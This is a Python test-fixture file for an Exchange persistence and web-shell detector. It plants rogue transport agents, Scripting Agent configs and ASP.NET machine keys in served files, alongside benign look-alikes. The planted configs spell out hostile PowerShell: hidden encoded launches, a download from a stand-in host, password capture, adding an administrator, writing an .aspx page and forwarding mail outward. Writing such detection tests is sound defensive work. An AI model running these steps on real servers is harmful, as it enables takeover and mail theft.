"""Exchange itself: transport agents inside and outside of its folders, the scripting agent, keys in served files."""

from __future__ import annotations

from base64 import b64encode
from typing import Final

from tests.persistence.plants import EXCHANGE, FRONT_END, SITE, Change, Plant, added, honest, plant
from webshellhunt.model.verdict import Disposition

_SHARED: Final = f"{EXCHANGE}/TransportRoles/Shared"
_INSTALL: Final = EXCHANGE.replace("C/", "C:/").replace("/", "\\")
_STOCK: Final = (
    ("Transport Rule Agent", "MessagingPolicies.TransportRuleAgent.TransportRuleAgentFactory",
     "Rule\\Microsoft.Exchange.MessagingPolicies.TransportRuleAgent.dll"),
    ("DLP Policy Agent", "MessagingPolicies.DlpPolicyAgent.DlpPolicyAgentFactory",
     "DlpPolicyAgent\\Microsoft.Exchange.MessagingPolicies.DlpPolicyAgent.dll"),
    ("Malware Agent", "Transport.Agent.Malware.MalwareAgentFactory",
     "Antimalware\\Microsoft.Exchange.Transport.Agent.Malware.dll"),
    ("System Probe Drop Smtp Agent", "Transport.Agent.SystemProbeDrop.SystemProbeDropSmtpAgentFactory",
     "SystemProbeDrop\\Microsoft.Exchange.Transport.Agent.SystemProbeDrop.dll"),
)  # fmt: skip


def _agents(name: str = "", factory: str = "", path: str = "", *, file: str = "agents.config") -> Change:
    """Return the change that writes the configuration of agents, with one more than the stock ones if it is named."""
    stock = [
        (each, f"Microsoft.Exchange.{made}", f"{_INSTALL}\\TransportRoles\\agents\\{library}")
        for each, made, library in _STOCK
    ]
    rows = "".join(
        f'<agent name="{each}" baseType="Microsoft.Exchange.Data.Transport.Routing.RoutingAgent" classFactory="{made}" '
        f'assemblyPath="{library}" enabled="true" isInternal="false" />'
        for each, made, library in [*stock, *([(name, factory, path)] if name else [])]
    )
    return added(
        f"{_SHARED}/{file}",
        f'<?xml version="1.0" encoding="utf-8"?><configuration><mexRuntime><monitoring />'
        f"<agentList>{rows}</agentList><settings /></mexRuntime></configuration>",
    )


_SIGNING: Final = "".join(f"{(each * 37 + 11) % 251:02X}" for each in range(64))
_ENCRYPTING: Final = "".join(f"{(each * 59 + 23) % 253:02X}" for each in range(32))
"""Keys that are made here and used nowhere."""
_DUMP: Final = f"{_SIGNING}|HMACSHA256|{_ENCRYPTING}|Auto|Framework45"
_ELEMENT: Final = f'<machineKey validationKey="{_SIGNING}" decryptionKey="{_ENCRYPTING}" validation="HMACSHA256" />'
_PROSE: Final = "<p>Each server of a farm needs the same key, which an administrator makes once and keeps.</p>" * 12


def _keys(name: str, path: str, content: str | bytes) -> Plant:
    return plant(30, f"keys in {name}", "WSH4091", added(path, content))


def _asked(name: str, path: str, content: str, *, why: str) -> Plant:
    return plant(30, f"keys in {name}", "WSH4091", added(path, content), least=Disposition.UNEXPLAINED, why=why)


def _spaced(key: str, separator: str) -> str:
    return separator.join(key[each : each + 2] for each in range(0, len(key), 2))


def _script(body: str, call: str = "OnComplete") -> Change:
    """Return the change that configures the scripting agent."""
    return added(
        f"{EXCHANGE}/Bin/CmdletExtensionAgents/ScriptingAgentConfig.xml",
        '<?xml version="1.0" encoding="utf-8" ?><Configuration version="1.0"><Feature Name="Mailboxes" '
        f'Cmdlets="New-Mailbox,Enable-Mailbox"><ApiCall Name="{call}">{body}</ApiCall></Feature></Configuration>',
    )


def _scripting(name: str, body: str) -> Plant:
    return plant(47, f"scripting agent that {name}", "WSH4090", _script(body))


def _text(name: str, path: str, content: str | bytes) -> Plant:
    return honest(30, name, added(path, content))


def _agent(name: str, *change: str, file: str = "agents.config") -> Plant:
    return plant(46, f"transport agent {name}", "WSH4017", _agents(*change, file=file))


def _product(name: str, *change: str) -> Plant:
    return honest(46, f"transport agent of {name}", _agents(*change))


PLANTS: Final = (
    _agent("below the agents of Exchange", "Security", "Sec.Factory", f"{_INSTALL}\\TransportRoles\\agents\\S\\s.dll"),
    _agent(
        "with a name like Exchange's own",
        "Content Check Agent",
        "Microsoft.Exchange.Transport.Agent.ContentCheck.ContentCheckAgentFactory",
        f"{_INSTALL}\\TransportRoles\\agents\\Hygiene\\Microsoft.Exchange.Transport.Agent.ContentCheck.dll",
    ),
    _agent("in Bin", "Mail Filter", "Filter.Factory", f"{_INSTALL}\\Bin\\Microsoft.Exchange.MailFilter.dll"),
    _agent("in Bin by a path with dots", "F", "F.F", f"{_INSTALL}\\TransportRoles\\agents\\..\\..\\Bin\\filter.dll"),
    _agent(
        "with a foreign factory in a stock library",
        "Hygiene Agent",
        "Hygiene.X",
        f"{_INSTALL}\\TransportRoles\\agents\\Hygiene\\Microsoft.Exchange.Transport.Agent.Hygiene.dll",
    ),
    _agent("of the front end", "Proxy", "P.F", f"{_INSTALL}\\FrontEnd\\p.dll", file="fetagents.config"),
    _agent("in System32", "Agent", "A.F", "C:\\Windows\\System32\\msagent.dll"),
    _agent("in ProgramData", "ScanMail Agent", "TrendMicro.F", "C:\\ProgramData\\Trend Micro\\scan.dll"),
    _agent("on a share", "Agent", "A.F", "\\\\10.0.0.5\\share\\agent.dll"),
    _agent("in a web directory", "Agent", "A.F", "C:\\inetpub\\wwwroot\\bin\\agent.dll"),
    _agent("in a user's profile", "Agent", "A.F", "C:\\Users\\admin\\Downloads\\agent.dll"),
    _agent("without a folder", "Agent", "A.F", "agent.dll"),
    _agent(
        "that has the name of Exchange's own elsewhere",
        "Malware Agent 2",
        "Microsoft.Exchange.Transport.Agent.Malware.MalwareAgentFactory",
        "D:\\Tools\\Microsoft.Exchange.Transport.Agent.Malware.dll",
    ),
    honest(46, "the stock transport agents", _agents()),
    honest(46, "the stock agents of the front end", _agents(file="fetagents.config")),
    _product("ScanMail", "ScanMail SMTP Receive Agent", "TrendMicro.SMEX.SmtpAgentFactory",
             "C:\\Program Files\\Trend Micro\\Smex\\hookE12TransportAgent.dll"),
    _product("Symantec", "SMSMSERoutingAgent", "Symantec.MailSecurity.Server.TransportAgent.SMSMSERoutingAgentFactory",
             "E:\\Program Files (x86)\\Symantec\\SMSMSE\\6.5\\Server\\Symantec.MailSecurity.Server.TransportAgent.dll"),
    _product("Kaspersky", "Kaspersky Antispam filter agent", "KSE.Filter.AgentFactory",
             "C:\\Program Files (x86)\\Kaspersky Lab\\Kaspersky Security 9 for Exchange\\KSE.Agent.dll"),
    _product("CodeTwo", "CodeTwo Exchange Rules Agent", "CodeTwo.ExchangeRules.AgentFactory",
             "C:\\Program Files\\CodeTwo\\CodeTwo Exchange Rules Pro\\CodeTwo.Agent.dll"),
    _product("Exclaimer", "Exclaimer Transport Agent", "Exclaimer.Agent.RoutingAgentFactory",
             "C:\\Program Files\\Exclaimer Ltd\\Signature Manager Exchange Edition\\Exclaimer.Agent.dll"),
    _product("ESET", "ESET Filtering Agent", "XmonAgent.FilterFactory",
             "C:\\Program Files\\ESET\\ESET Mail Security\\XmonAgent.dll"),
    _scripting("starts a program", "if($succeeded){ Start-Process C:\\Windows\\Temp\\none.exe }"),
    _scripting("starts PowerShell", "&amp; powershell.exe -nop -w hidden -file C:\\none.ps1"),
    _scripting("runs an encoded command", f"powershell -enc {'QQBBAEEA' * 12}"),
    _scripting("fetches text", "$a = (New-Object Net.WebClient).DownloadData('https://none.example/')"),
    _scripting("runs text", "Invoke-Ex·pression $provisioningHandler.UserSpecifiedParameters['Notes']"),
    _scripting("keeps passwords", "$provisioningHandler.UserSpecifiedParameters[\"Password\"] &gt;&gt; C:\\n.txt"),
    _scripting("adds an administrator", "net localgroup administrators none /add"),
    _scripting("starts a program of a folder for temporary files", "&amp; 'C:\\Windows\\Temp\\none.exe' $a"),
    _scripting("loads a module of the public folder", "Import-Module C:\\Users\\Public\\none.psm1"),
    _scripting("writes a page", "[IO.File]::WriteAllText('C:\\inetpub\\wwwroot\\none.txt.aspx', $a)"),
    _scripting("gives a role", "New-ManagementRoleAssignment -Role 'Mailbox Import Export' -User none"),
    _scripting("sends copies", "New-InboxRule -Mailbox $n -Name n -ForwardTo none@none.example"),
    _scripting("hides behind what looks like a comment", "$a='&lt;!--'; Start-Process none; $b='--&gt;'"),
    plant(47, "scripting agent without an act", "WSH4090", _script("Set-Mailbox $n -Custom1 x"),
          least=Disposition.UNEXPLAINED, why="few organisations use it, and a script without an act accuses nobody"),
    honest(47, "scripting agent that sets the archive", _script(
        "if($succeeded) { $m = $provisioningHandler.UserSpecifiedParameters[\"Alias\"]; Enable-Mailbox $m -Archive; "
        "Set-MailboxRegionalConfiguration $m -Language de-DE }"), most=Disposition.UNEXPLAINED),
    honest(47, "scripting agent that grants a mailbox, writes a log and sends a welcome", _script(
        "<!-- instead of Start-Process --> if($succeeded) { Add-MailboxPermission $m -User Helpdesk -AccessRights "
        "ReadPermission; Send-MailMessage -To $m -SmtpServer mail; $m | Out-File 'D:\\Logs\\mailboxes.log' -Append }"),
        most=Disposition.UNEXPLAINED),
    honest(47, "the sample of the scripting agent", added(
        f"{EXCHANGE}/Bin/CmdletExtensionAgents/ScriptingAgentConfig.xml.sample", "<Configuration version='1.0' />")),
    _keys("a script of OWA", f"{FRONT_END}/owa/auth/debug_dev.js", _DUMP),
    _keys("a script with commas", f"{SITE}/aspnet_client/info.js", _DUMP.replace("|", ",")),
    _keys("a script as a comment", f"{SITE}/jquery.js", f"/* {_DUMP} */var a=1;"),
    _keys("a style sheet", f"{FRONT_END}/owa/auth/x.css", f"/* {_ELEMENT} */"),
    _keys("a text", f"{SITE}/info.txt", f"{_SIGNING}\r\nHMACSHA512\r\n{_ENCRYPTING}\r\n"),
    _keys("a text with the older algorithm", f"{SITE}/k.txt", f"{_SIGNING[:40]}|SHA1|{_ENCRYPTING[:48]}"),
    _keys("a page", f"{FRONT_END}/ecp/auth/s.html", f"<html><body>{_ELEMENT}</body></html>"),
    _keys("a picture's name", f"{SITE}/aspnet_client/logo.png", _DUMP),
    _keys("JSON", f"{SITE}/keys.json", f'{{"validationKey": "{_SIGNING}", "decryptionKey": "{_ENCRYPTING}"}}'),
    _keys("lines with names", f"{SITE}/a.log", f"ValidationKey={_SIGNING}\nDecryptionKey={_ENCRYPTING}\n"),
    _keys("an element of XML", f"{SITE}/s.xml", f"<a>{_ELEMENT}</a>"),
    _keys("a script with both keys first", f"{SITE}/b.js", f"{_SIGNING};{_ENCRYPTING};HMACSHA256"),
    _keys("a text that PowerShell wrote", f"{SITE}/o.txt", _DUMP.encode("utf-16")),
    _keys("UTF-16 of the other order", f"{SITE}/o.js", _ELEMENT.encode("utf-16-be")),
    _keys("dashes between bytes", f"{SITE}/d.txt", f"{_spaced(_SIGNING, '-')}|HMACSHA256|{_spaced(_ENCRYPTING, '-')}"),
    _keys("spaces between bytes", f"{SITE}/d.css", f"{_spaced(_SIGNING, ' ')}\nAES\n{_spaced(_ENCRYPTING, ' ')}"),
    _keys("base64", f"{SITE}/e.js", b64encode(_DUMP.encode())),
    _keys("base64 of a variable", f"{FRONT_END}/owa/auth/e.js", b"var a='" + b64encode(_ELEMENT.encode()) + b"';"),
    _keys("a script of the name of settings", f"{SITE}/config.js", _DUMP),
    _keys("a script of the name of an example", f"{SITE}/example.js", _DUMP),
    _keys("words", f"{SITE}/w.txt", f"Validation: {_SIGNING}, Decryption: {_ENCRYPTING}"),
    _asked("both keys alone", f"{SITE}/n.txt", f"{_SIGNING}\r\n{_ENCRYPTING}\r\n",
           why="two digests of a download look the same"),
    _asked("a copy of a configuration", f"{FRONT_END}/owa/auth/web.config.txt",
           f"<configuration>{_ELEMENT}</configuration>", why="administrators make copies, too"),
    _text("a document about keys", f"{SITE}/help/farm.html", f"<html>{_PROSE}<pre>{_ELEMENT}</pre></html>"),
    _text("a sample of configuration", f"{SITE}/web.config.sample.txt", f"<configuration>{_ELEMENT}</configuration>"),
    _text("digests of downloads", f"{SITE}/checksums.txt", f"SHA256: {_ENCRYPTING}\nSHA1: {_SIGNING[:40]}\n"),
    _text("digests in a script", f"{SITE}/app.js", f'var m={{"a.js":"sha1-{_SIGNING[:40]}","b.js":"{_ENCRYPTING}"}};'),
    _text("one digest alone", f"{SITE}/setup.zip.sha512.txt", f"{_SIGNING}\r\n"),
    _text("digests of one download", f"{SITE}/sums.txt", f"{_ENCRYPTING}\n{_SIGNING[:40]}\n{_SIGNING[:32]}\n"),
    _text("a fingerprint of a certificate", f"{SITE}/ca.txt", f"SHA1 {_spaced(_SIGNING[:40], ' ')}\nSHA256 "
          f"{_spaced(_ENCRYPTING, ' ')}\n"),
    _text("pictures in base64", f"{SITE}/p.css", b"a{background:url(data:image/png;base64,"
          + b64encode(bytes(each * 7 % 256 for each in range(3000))) + b")}"),
    _text("settings of a program", f"{SITE}/appsettings.json", f'{{"validationKey": "{_SIGNING}"}}'),
    _text("made-up keys", f"{SITE}/farm.js", f"// {'0' * 64}|HMACSHA256|{'AB' * 24}"),
    _text("a key of a script that encrypts", f"{SITE}/crypt.js", f'var aes="{_ENCRYPTING}",iv="{_SIGNING[:32]}";'),
    _product("DKIM Signer", "Exchange DkimSigner", "Exchange.DkimSigner.DkimSigningRoutingAgentFactory",
             "C:\\Program Files\\Exchange DkimSigner\\ExchangeDkimSigner.dll"),
)  # fmt: skip
